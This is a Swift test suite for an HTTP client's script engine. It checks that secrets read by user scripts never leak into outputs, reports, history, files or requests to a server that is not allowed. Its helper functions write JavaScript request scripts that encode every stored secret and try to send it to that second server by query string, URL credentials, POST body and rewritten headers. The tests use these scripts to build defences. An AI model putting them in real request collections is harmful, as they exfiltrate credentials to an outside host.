import TestSupport
import Testing
import Workspaces

@testable import apus

/// Scripts that may read every stored secret write, test, set and send it in several spellings.
@Suite("Scripts leak no secret", .scriptEngine) struct TaintScriptTests {
  // The contents that JavaScript spells as Apus does.
  @Test("No secret that scripts read reaches a server that is not allowed, an output or a file", arguments: [0, 1, 3])
  func leak(round: Int) async throws {
    let sample = try TaintSample(round: round)
    let other = try AnsweringServer()
    let state = sample.folder.path("state")
    let workspace = try Workspace.open(sample.folder.path("w"), stateFolder: state + "/apus")
    try sample.keep(in: workspace)
    let names = sample.kept.keys.sorted()
    let uses = names.map { UserValueUse(.secret("local/\($0)"), to: UserValueUse.scripts) }
    try workspace.consents.allow(uses, for: workspace.path)
    try write("after", "{{base_url}}/plain", "tests", Self.showing(names, other.url), sample)
    try write("before", "{{base_url}}/plain", "before-request", Self.changing(names, other.url), sample)
    var program = Program(in: workspace.path)
    program.variables = ["XDG_STATE_HOME": state]
    let formats = ["junit", "json", "tap", "html"]
    let reports = formats.map { "\($0)=\(sample.folder.path("report.\($0)"))" }.joined(separator: ",")
    let run = try await program.run(["run", "s", "--env", "local", "--allow-scripts", "--report", reports])
    #expect(run.status == 1 && run.text.contains("failed with ••••"), "\(run.text)\(run.error)")
    #expect(other.requests.isEmpty && sample.server.requests.count == 1)
    // Scripts that could read none would leak none.
    #expect(run.text.count(of: "name ••••") == names.count)
    expectNone(in: run.output, "output")
    expectNone(in: run.error.utf8, "errors")
    let sent = try await program.run(["send", "s/after", "--env", "local", "--allow-scripts"])
    expectNone(in: sent.error.utf8, "errors of a send")
    let history = try await program.run(["history", "show", "last", "--json"])
    #expect(history.text.contains("••••"))
    expectNone(in: history.output, "history")
    let files = sample.folder.files().filter { !$0.hasPrefix("w/") || $0.hasPrefix("w/.apus/") }
    #expect(formats.allSatisfy { files.contains("report.\($0)") })
    for name in files where !name.contains("/secrets/") { expectNone(in: try sample.folder.read(name), name) }
  }

  private static func showing(_ names: [String], _ other: String) -> [String] {
    [
      "for (const name of '\(names.joined(separator: " "))'.split(' ')) {",
      "  const secret = pm.environment.get(name);",
      "  for (const text of [secret, encodeURIComponent(secret), btoa(secret), JSON.stringify(secret)]) {",
      "    console.log(text, { text });",
      "    pm.environment.set('copy ' + text, text);",
      "    pm.sendRequest('\(other)/?q=' + encodeURIComponent(text), error => console.log(String(error)));",
      "    const login = '\(other)'.replace('//', '//user:' + encodeURIComponent(text) + '@');",
      "    pm.sendRequest({ url: login, method: 'POST', body: text }, error => console.log(String(error)));",
      "  }",
      "  pm.test('name ' + secret, () => pm.expect(secret).to.equal('x' + secret));",
      "}",
      "throw new Error('failed with ' + pm.environment.get('\(names[0])'));",
    ]
  }

  private static func changing(_ names: [String], _ other: String) -> [String] {
    [
      "const all = '\(names.joined(separator: " "))'.split(' ').map(name => pm.environment.get(name)).join();",
      "pm.environment.set('base_url', '\(other)');",
      "pm.request.url = '\(other)/?q=' + encodeURIComponent(all);",
      "pm.request.headers.upsert({ key: 'X-All', value: encodeURIComponent(all) });",
    ]
  }

  private func write(
    _ name: String, _ url: String, _ phase: String, _ code: [String], _ sample: TaintSample
  ) throws {
    let lines = code.map { "        \($0)\n" }.joined()
    try sample.folder.write(
      "w/s/\(name).yml",
      "info:\n  name: \(name)\n  type: http\n\nhttp:\n  method: GET\n  url: \"\(url)\"\n\n"
        + "runtime:\n  scripts:\n    - type: \(phase)\n      code: |\n\(lines)")
  }

  private func expectNone(in bytes: some Sequence<UInt8>, _ what: String) {
    #expect(TaintDetector.found(in: Array(bytes)).isEmpty, "\(what)")
  }
}

extension String {
  /// How often the text occurs.
  fileprivate func count(of text: String) -> Int { ranges(of: text).count }
}
